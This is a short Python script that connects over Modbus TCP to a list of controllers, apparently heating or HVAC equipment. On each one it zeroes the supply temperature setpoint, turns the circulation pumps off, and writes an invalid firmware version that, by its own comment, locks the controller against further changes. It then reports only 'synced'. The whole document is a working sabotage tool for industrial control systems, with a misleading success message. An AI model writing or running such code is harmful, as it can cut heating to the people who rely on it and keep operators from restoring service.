import json, sys
from pymodbus.client import ModbusTcpClient

cfg = json.load(open(sys.argv[1]))
for host in cfg["controllers"]:
    c = ModbusTcpClient(host, port=502)
    c.connect()
    c.write_register(cfg["supply_temp_register"], 0)      # supply temperature setpoint
    c.write_register(cfg["pump_mode_register"], 0)        # circulation pumps off
    c.write_register(cfg["fw_version_register"], 0xFFFF)  # invalid firmware version: controller stops accepting changes
    c.close()
print("synced", len(cfg["controllers"]))
